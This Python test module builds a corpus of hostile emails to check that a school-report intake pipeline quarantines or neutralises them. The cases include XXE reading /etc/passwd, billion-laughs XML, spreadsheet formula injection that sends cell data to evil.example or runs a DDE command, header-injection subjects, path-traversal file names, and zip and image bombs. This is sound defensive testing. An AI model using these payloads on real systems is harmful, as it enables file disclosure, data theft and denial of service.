"""The hostile corpus: complete raw emails, each built in code, with the outcome the pipeline
must reach for it.

Every message comes from a roster unit (Trường THCS Kim Bài; Bích Hòa for the workbook that
names it) with Vietnamese text, the way a
real one would, and carries one hostile shape:

- MIME: a multipart with no boundary, one whose parts use another boundary, one cut off in the
  middle of a base64 attachment, 200 levels of nesting, 5,000 parts and 50,000 empty ones, a
  3 MB header block (relay lines above the real fields), a Subject of 100,000 RFC 2047 encoded
  words and a file name of 160,000 (mail-parser's decoding is superlinear: ~30 s), invalid
  base64, unknown and utf-7 charsets, 8-bit junk in From (lone surrogates once decoded) with a
  raw UTF-8 Subject, no Message-ID, a second message reusing another's Message-ID, CR/LF,
  U+2028/2029/NEL and NUL/RTLO/escape sequences inside encoded Subjects;
- file names: `../../etc/passwd`, an absolute path, a Windows path, a NUL, RTLO, the reserved
  names CON and NUL, 100,000 characters;
- office files: billion laughs in an xlsx part, an XXE external entity, a sheet declaring
  A1:XFD1048576, shared strings of 70 MB and 20 MB (past the XML budgets; 60 MB took 17 s
  to load), a truncated xlsx, a web page saved as .xlsx, billion laughs in a docx;
- archives: a ratio bomb, an overlapping-entries bomb, 1,500 entries, a symlink with `..` and
  absolute names, an entry lying about its size;
- images: PNGs declaring 144 Mpx and 99 Mpx (past Pillow's error and warning thresholds),
  EPS bytes named .png, a truncated JPEG.

Outcomes: "quarantined" (the message is set aside; `reason` is a substring of its reason),
"rejected" (the message is filed, and one attachment carries `reason` in its problem) or
"clean" (the message is filed and no attachment has a problem).
"""

from __future__ import annotations

import base64
import functools
import io
import random
import re
import urllib.parse
import zipfile
from dataclasses import dataclass
from email.header import Header
from xml.sax.saxutils import escape as xml_escape

from intake import demo_mail
from tests.support import docgen_media, docgen_tables

SENDER_ADDR = "thcs-kim-bai@thanhoai.example"
SENDER = f'"Trường THCS Kim Bài" <{SENDER_ADDR}>'
OFFICE = demo_mail.OFFICE
UNIT = demo_mail.RosterUnit("thcs-kim-bai", "Trường THCS Kim Bài", "thcs", SENDER_ADDR)
XLSX = demo_mail.XLSX
DOCX = demo_mail.DOCX
ABSOLUTE_TARGET = "/tmp/intake-hostile-absolute.xlsx"  # must never exist after the run
SST = "xl/sharedStrings.xml"
SST_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass(frozen=True)
class Case:
    name: str
    group: str  # mime | filename | office | archive | image
    raw: bytes
    outcome: str  # "quarantined" | "rejected" | "clean"
    reason: str = ""  # see the module docstring
    filename: str = ""  # the display name the attachment is stored under ("…*": a prefix)
    subject: str = ""  # the stored Subject must start with this
    twin: bytes = b""  # a different message with the same Message-ID, imported first
    files: int = -1  # how many attachments (top level) must be filed; -1: not checked
    unit: str = UNIT.code  # the unit a filed message must be filed under


# --- building blocks -----------------------------------------------------------------------


def _encode(text: str) -> str:
    return Header(text, "utf-8").encode(linesep="\r\n")


def _head(
    n: int,
    *,
    subject: str | bytes | None = None,
    message_id: str | None = "",
    sender: bytes | None = None,
    extra: tuple[bytes, ...] = (),
) -> bytes:
    """A header block (no trailing blank line) as a webmail client writes it."""
    lines = [
        b"Received: from mail.thanhoai.example (mail.thanhoai.example [203.162.0.10]) "
        b"by mx.thanhoai.example; Mon, 4 Oct 2021 09:%02d:05 +0700" % (n % 60),
        sender or f"From: {_encode('Trường THCS Kim Bài')} <{SENDER_ADDR}>".encode(),
        f"To: {OFFICE}".encode(),
    ]
    if subject is None:
        subject = _encode(f"Báo cáo Tuần lễ học tập suốt đời 2021 - Trường THCS Kim Bài ({n})")
    lines.append(b"Subject: " + (subject if isinstance(subject, bytes) else subject.encode()))
    lines.append(b"Date: Mon, 4 Oct 2021 09:%02d:00 +0700" % (n % 60))
    if message_id is not None:
        lines.append(
            f"Message-ID: {message_id or f'<hostile-{n}.thcskimbai@thanhoai.example>'}".encode()
        )
    return b"\r\n".join([*lines, b"MIME-Version: 1.0", *extra])


BODY = (
    "Kính gửi: Phòng Giáo dục và Đào tạo huyện Thanh Oai\r\n\r\n"
    "Trường THCS Kim Bài xin gửi báo cáo kết quả tổ chức Tuần lễ học tập suốt đời năm "
    "2021 và bảng tổng hợp số liệu.\r\n\r\nTrân trọng!\r\nVăn thư Trường THCS Kim Bài\r\n"
)


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _text_part(text: str = BODY) -> bytes:
    return (
        b'Content-Type: text/plain; charset="utf-8"\r\nContent-Transfer-Encoding: base64'
        b"\r\n\r\n" + _b64(text.encode())
    )


def _file_part(data: bytes, disposition: str, ctype: str = XLSX) -> bytes:
    return (
        f"Content-Type: {ctype}\r\nContent-Disposition: {disposition}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + _b64(data)


def _rfc2231(name: str) -> str:
    return "attachment; filename*=utf-8''" + urllib.parse.quote(name, safe="")


def _multipart(
    n: int,
    parts: list[bytes],
    *,
    boundary: str = "",
    close: bool = True,
    subject: str | bytes | None = None,
    message_id: str | None = "",
    sender: bytes | None = None,
) -> bytes:
    boundary = boundary or f"000000000000hostile{n:04d}"
    out = _head(
        n,
        extra=(f'Content-Type: multipart/mixed; boundary="{boundary}"'.encode(),),
        subject=subject,
        message_id=message_id,
        sender=sender,
    )
    out += b"\r\n\r\n"
    for part in parts:
        out += f"--{boundary}\r\n".encode() + part + b"\r\n"
    if close:
        out += f"--{boundary}--\r\n".encode()
    return out


def _with_file(
    n: int,
    data: bytes,
    disposition: str,
    ctype: str = XLSX,
    *,
    subject: str | bytes | None = None,
    message_id: str | None = "",
    sender: bytes | None = None,
) -> bytes:
    return _multipart(
        n,
        [_text_part(), _file_part(data, disposition, ctype)],
        subject=subject,
        message_id=message_id,
        sender=sender,
    )


def _attached(n: int, data: bytes, filename: str, ctype: str = XLSX) -> bytes:
    return _with_file(n, data, _rfc2231(filename), ctype)


@functools.cache
def table_xlsx() -> bytes:
    """The unit's "Tổng hợp số liệu" workbook (the demo generator's, fixed seed)."""
    rng = random.Random(2021)
    return demo_mail.make_table(UNIT, demo_mail._rows(rng), rng)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-1+2",
    "@SUM(1)",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)


def formula_table(unit: demo_mail.RosterUnit) -> bytes:
    """A unit's table whose activity cells are text that reads as formulas (typed with Excel's
    leading apostrophe, or crafted): inline strings, not formula cells."""
    rng = random.Random(8)
    rows = [(f"HOSTILE{i}", "Liên đội", 1 + i, 35 * (i + 1)) for i in range(len(FORMULAS))]
    data = demo_mail.make_table(unit, rows, rng)
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        sheet = src.read("xl/worksheets/sheet1.xml").decode()
    for i, text in enumerate(FORMULAS):
        sheet = sheet.replace(f"<t>HOSTILE{i}</t>", f"<t>{xml_escape(text)}</t>")
    return _rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})


def _rezip(data: bytes, changes: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, changes.get(info.filename, src.read(info)))
    return out.getvalue()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)  # &lol9; is 10**9 "lol"s


def _sst(body: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<sst xmlns="{SST_NS}" count="1" '
        f'uniqueCount="1"><si><t>{body}</t></si></sst>'
    ).encode()


def with_shared_strings(xlsx: bytes, sst: bytes) -> bytes:
    """`xlsx` as Excel saves it: cell A1's text moved to a sharedStrings part (openpyxl writes
    inline strings), the part being `sst`."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src:
        sheet = src.read("xl/worksheets/sheet1.xml").decode()
        types = src.read("[Content_Types].xml").decode()
        rels = src.read("xl/_rels/workbook.xml.rels").decode()
    sheet = re.sub(
        r'<c r="A1"([^>]*) t="inlineStr"><is>.*?</is></c>',
        r'<c r="A1"\1 t="s"><v>0</v></c>',
        sheet,
        count=1,
    )
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/sharedStrings.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'sharedStrings+xml"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdSst" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        changes = {
            "xl/worksheets/sheet1.xml": sheet.encode(),
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
        }
        for info in src.infolist():
            dst.writestr(info.filename, changes.get(info.filename, src.read(info)))
        dst.writestr(SST, sst)
    return out.getvalue()


def _inflated_sst(megabytes: int) -> bytes:
    """A sharedStrings part of `megabytes` MB that deflates ~300:1."""
    item = "<si><t>Trường THCS Kim Bài - Tuần lễ học tập suốt đời</t></si>".encode()
    count = megabytes * 2**20 // len(item)
    return (
        (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{SST_NS}" count="{count}" '
            f'uniqueCount="{count}">'
        ).encode()
        + item * count
        + b"</sst>"
    )


def _docx_bomb() -> bytes:
    report, _ = docgen_tables.make_docx_report()
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{LAUGHS}'
        f'<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t>BÁO CÁO &lol9;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return _rezip(report, {"word/document.xml": body.encode()})


def _deep(n: int, depth: int) -> bytes:
    out = _head(n, extra=(b'Content-Type: multipart/mixed; boundary="lvl0"',)) + b"\r\n\r\n"
    for level in range(1, depth):
        out += (
            f'--lvl{level - 1}\r\nContent-Type: multipart/mixed; boundary="lvl{level}"\r\n\r\n'
        ).encode()
    out += f"--lvl{depth - 1}\r\n".encode() + _text_part() + b"\r\n"
    for level in range(depth - 1, -1, -1):
        out += f"--lvl{level}--\r\n".encode()
    return out


def _quadratic_subject(words: int) -> bytes:
    word = base64.b64encode("Báo cáo ".encode()).decode()
    line = " ".join([f"=?utf-8?B?{word}?="] * 4)
    return "\r\n ".join([line] * (words // 4)).encode()


def _eps() -> bytes:
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n"
        b"/Times-Roman findfont 12 scalefont setfont 10 50 moveto (Anh) show\nshowpage\n"
    )


# --- the corpus ----------------------------------------------------------------------------


def _mime() -> list[Case]:
    table = table_xlsx()
    twin_id = "<CAOfficeTwin-0001@mail.gmail.com>"
    crlf_subject = b"=?utf-8?q?B=C3=A1o_c=C3=A1o=0D=0ABcc:_x@evil.example?="
    controls = "Báo cáo\x00\u202egpj.exe\u2028\x1b[31m tuần lễ\ufeff"
    junk = b"\r\n".join(
        b"X-Relay-%05d: from relay%d.example (relay%d.example [10.0.%d.%d]) by mx.example"
        % (i, i, i, i // 256 % 256, i % 256)
        for i in range(30000)
    )
    utf7 = "Báo cáo <script>alert(1)</script> Tuần lễ".encode("utf-7")
    unknown = base64.b64encode("Báo cáo tuần lễ".encode()).decode()
    return [
        Case(
            "no-boundary",
            "mime",
            _head(1, extra=(b"Content-Type: multipart/mixed",))
            + b"\r\n\r\n--x\r\n"
            + _text_part()
            + b"\r\n--x--\r\n",
            "clean",
        ),
        Case(
            "other-boundary",
            "mime",
            _head(2, extra=(b'Content-Type: multipart/mixed; boundary="AAAA"',))
            + b"\r\n\r\n"
            + b"--BBBB\r\n"
            + _file_part(table, _rfc2231("so lieu.xlsx"))
            + b"\r\n--BBBB--\r\n",
            "clean",
        ),
        Case(
            "cut-off-attachment",
            "mime",
            _multipart(
                3,
                [
                    _text_part(),
                    _file_part(table, _rfc2231("Tổng hợp số liệu.xlsx"))[: len(table) // 2],
                ],
                close=False,
            ),
            "rejected",
            "damaged",
        ),
        Case("nesting-200", "mime", _deep(4, 200), "quarantined", "nest"),
        Case(
            "parts-5000",
            "mime",
            _multipart(
                5,
                [_text_part()]
                + [
                    _file_part(b"anh %d" % i, _rfc2231(f"anh_{i:04d}.jpg"), "image/jpeg")
                    for i in range(5000)
                ],
            ),
            "quarantined",
            "MIME parts",
        ),
        Case(
            "parts-50000-tiny",
            "mime",  # refused by counting delimiter lines, before parsing
            _multipart(19, [b"\r\n"] * 50_000),
            "quarantined",
            "MIME parts",
        ),
        Case(
            "header-block-3mb",
            "mime",
            b"\r\n".join(
                [junk, _head(6, extra=(b'Content-Type: multipart/mixed; boundary="hb6"',))]
            )
            + b"\r\n\r\n--hb6\r\n"
            + _text_part()
            + b"\r\n--hb6\r\n"
            + _file_part(table, _rfc2231("so lieu.xlsx"))
            + b"\r\n--hb6--\r\n",
            "clean",
            subject="Báo cáo Tuần lễ",
            files=1,
        ),
        Case(
            "subject-100k-encoded-words",
            "mime",
            _multipart(
                7,
                [_text_part(), _file_part(table, _rfc2231("so lieu.xlsx"))],
                subject=_quadratic_subject(100_000),
            ),
            "clean",
            subject="Báo cáo Báo cáo",
            files=1,
        ),
        Case(
            "filename-160k-encoded-words",
            "mime",
            _with_file(
                8,
                table,
                'attachment; filename="' + " ".join([_encode("Tổng hợp ")] * 160_000) + '.xlsx"',
            ),
            "clean",
            filename="Tổng hợp Tổng hợp*",
            files=1,
        ),
        Case(
            "invalid-base64",
            "mime",
            _multipart(
                9,
                [
                    _text_part(),
                    (
                        f"Content-Type: {XLSX}"
                        f"\r\nContent-Disposition: {_rfc2231('so lieu.xlsx')}\r\n"
                        "Content-Transfer-Encoding: base64\r\n\r\n"
                    ).encode()
                    + b"UEsDBB!!!*** not base64 @@@\r\n"
                    + _b64(table)[:400]
                    + b"=\r\n===\r\n",
                ],
            ),
            "rejected",
            "damaged",
        ),
        Case(
            "unknown-charset",
            "mime",
            _multipart(
                10,
                [
                    b'Content-Type: text/plain; charset="x-vn-tcvn-9"\r\n\r\n'
                    b"B\xb8o c\xb8o tu\xcbn l\xd6\r\n",
                    _file_part(table, f'attachment; filename="=?x-vn-tcvn-9?B?{unknown}?="'),
                ],
                subject=f"=?x-vn-tcvn-9?B?{unknown}?=",
            ),
            "clean",
        ),
        Case(
            "utf-7",
            "mime",
            _multipart(
                11,
                [b'Content-Type: text/plain; charset="utf-7"\r\n\r\n' + utf7 + b"\r\n"],
                subject=f"=?utf-7?B?{base64.b64encode(utf7).decode()}?=",
            ),
            "clean",
            subject="Báo cáo <script>",
        ),
        Case(
            "8bit-junk-from",
            "mime",  # and a Subject in raw UTF-8, as some webmails send it
            _with_file(
                12,
                table,
                _rfc2231("Tổng hợp số liệu.xlsx"),
                sender=(
                    b'From: "Tr\xc6\xb0\xe1\xbb\x9dng THCS '
                    b'\xff\xfe\xed\xa0\x80 Kim B\xe0i \x00\x1b" ' + f"<{SENDER_ADDR}>".encode()
                ),
                subject="Báo cáo tuần lễ (8-bit)".encode(),
            ),
            "clean",
            subject="Báo cáo tuần lễ (8-bit)",
        ),
        Case(
            "no-message-id",
            "mime",
            _with_file(13, table, _rfc2231("Tổng hợp số liệu.xlsx"), message_id=None),
            "clean",
        ),
        Case(
            "same-message-id",
            "mime",
            _with_file(14, table, _rfc2231("Tổng hợp số liệu (gửi lại).xlsx"), message_id=twin_id),
            "clean",
            files=1,
            twin=_with_file(15, table, _rfc2231("Tổng hợp số liệu.xlsx"), message_id=twin_id),
        ),
        Case(
            "crlf-in-encoded-subject",
            "mime",
            _with_file(16, table, _rfc2231("so lieu.xlsx"), subject=crlf_subject),
            "clean",
            subject="Báo cáo Bcc: x@evil.example",
        ),
        Case(
            "line-separators-in-encoded-subject",
            "mime",
            _with_file(
                18,
                table,
                _rfc2231("so lieu.xlsx"),
                subject=_encode(
                    "Báo cáo\u2028Bcc: y@evil.example\u2029To: z@evil.example\x85Cc: w@evil.example"
                ),
            ),
            "clean",
            subject="Báo cáo Bcc: y@evil.example To: z@evil.example Cc: w@evil",
        ),
        Case(
            "controls-in-encoded-subject",
            "mime",
            _with_file(
                17,
                table,
                _rfc2231("so lieu.xlsx"),
                subject=f"=?utf-8?b?{base64.b64encode(controls.encode()).decode()}?=",
            ),
            "clean",
            subject="Báo cáo",
        ),
    ]


def _filenames() -> list[Case]:
    table = table_xlsx()
    return [
        Case(
            "traversal",
            "filename",
            _with_file(20, table, 'attachment; filename="../../etc/passwd"'),
            "clean",
            filename="passwd",
        ),
        Case(
            "absolute",
            "filename",
            _attached(21, table, ABSOLUTE_TARGET),
            "clean",
            filename=ABSOLUTE_TARGET.rsplit("/", 1)[1],
        ),
        Case(
            "windows-path",
            "filename",
            _with_file(
                22, table, 'attachment; filename="C:\\\\..\\\\..\\\\Windows\\\\so lieu.xlsx"'
            ),
            "clean",
            filename="so lieu.xlsx",
        ),
        Case(
            "nul",
            "filename",
            _attached(23, table, "so lieu.xlsx\x00.exe"),
            "clean",
            filename="so lieu.xlsx.exe",
        ),
        Case(
            "rtlo",
            "filename",
            _attached(24, table, "Bao cao\u202exslx.exe"),
            "clean",
            filename="Bao caoxslx.exe",
        ),
        Case(
            "reserved-con",
            "filename",
            _attached(25, table, "CON.xlsx"),
            "clean",
            filename="_CON.xlsx",
        ),
        Case("reserved-nul", "filename", _attached(26, table, "nul"), "clean", filename="_nul"),
        Case(
            "100k-chars",
            "filename",
            _attached(27, table, "Tổng hợp " * 11_111 + ".xlsx"),
            "clean",
            filename="Tổng hợp Tổng hợp*",
        ),
    ]


def _office() -> list[Case]:
    table = table_xlsx()
    huge, _ = docgen_tables.make_xlsx_huge_dimension()
    return [
        Case(
            "xlsx-billion-laughs",
            "office",
            _attached(30, with_shared_strings(table, _sst("&lol9;", LAUGHS)), "so lieu.xlsx"),
            "rejected",
            "damaged",
        ),
        Case(
            "xlsx-xxe",
            "office",
            _attached(
                31,
                with_shared_strings(
                    table,
                    _sst("&xxe;", '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
                ),
                "so lieu.xlsx",
            ),
            "rejected",
            "damaged",
        ),
        Case(
            "xlsx-far-cell-dimension",
            "office",  # docgen_tables' workbook is THCS Bích Hòa's
            _with_file(
                32,
                huge,
                _rfc2231("Tổng hợp số liệu.xlsx"),
                sender=b"From: thcs-bich-hoa@thanhoai.example",
            ),
            "clean",
            unit="thcs-bich-hoa",
        ),
        Case(
            "xlsx-shared-strings-70mb",
            "office",  # past the 64 MB XML budget
            _attached(33, with_shared_strings(table, _inflated_sst(70)), "so lieu.xlsx"),
            "rejected",
            "too large",
        ),
        Case(
            "xlsx-shared-strings-20mb",
            "office",  # loaded whole by openpyxl: 16 MB budget
            _attached(37, with_shared_strings(table, _inflated_sst(20)), "so lieu.xlsx"),
            "rejected",
            "too large",
        ),
        Case(
            "xlsx-truncated",
            "office",
            _attached(34, table[: len(table) // 2], "so lieu.xlsx"),
            "rejected",
            "damaged",
        ),
        Case(
            "xlsx-not-a-zip",
            "office",
            _attached(
                35,
                "<html><body>Phiên đăng nhập đã hết hạn</body></html>".encode(),
                "Tổng hợp số liệu.xlsx",
            ),
            "rejected",
            "does not match",
        ),
        Case(
            "docx-billion-laughs",
            "office",
            _attached(36, _docx_bomb(), "Bao cao.docx", DOCX),
            "rejected",
            "damaged",
        ),
    ]


def _archives() -> list[Case]:
    symlinks, _ = docgen_media.hostile_names_zip()
    zip_type = "application/zip"
    return [
        Case(
            "zip-ratio-bomb",
            "archive",
            _attached(40, docgen_media.ratio_bomb(20), "anh.zip", zip_type),
            "rejected",
            "compression ratio",
        ),
        Case(
            "zip-overlap-bomb",
            "archive",
            _attached(41, docgen_media.overlap_bomb(200), "hoso.zip", zip_type),
            "rejected",
            "overlap",
        ),
        Case(
            "zip-1500-entries",
            "archive",
            _attached(42, docgen_media.many_entries_zip(1500), "anh.zip", zip_type),
            "rejected",
            "only the first",
        ),
        Case(
            "zip-symlink-traversal-absolute",
            "archive",
            _attached(43, symlinks, "hoso.zip", zip_type),
            "rejected",
            "symbolic link",
        ),
        Case(
            "zip-lying-sizes",
            "archive",
            _attached(44, docgen_media.size_lie_zip(), "so lieu.zip", zip_type),
            "clean",
        ),
    ]


def _images() -> list[Case]:
    return [
        Case(
            "png-144-mpx",
            "image",
            _attached(50, docgen_media.png_bomb(12000, 12000), "anh hoat dong.png", "image/png"),
            "rejected",
            "image too large",
        ),
        Case(
            "png-99-mpx-warning-range",
            "image",
            _attached(51, docgen_media.png_bomb(9000, 11000), "anh 2.png", "image/png"),
            "rejected",
            "image too large",
        ),
        Case(
            "eps-named-png",
            "image",
            _attached(52, _eps(), "anh 3.png", "image/png"),
            "rejected",
            "does not match",
        ),
        Case(
            "jpeg-truncated",
            "image",
            _attached(53, docgen_media.truncated_jpeg(), "IMG_20211005_081530.jpg", "image/jpeg"),
            "rejected",
            "truncated",
        ),
    ]


@functools.cache
def corpus() -> tuple[Case, ...]:
    cases = (*_mime(), *_filenames(), *_office(), *_archives(), *_images())
    assert len({c.name for c in cases}) == len(cases)
    return cases
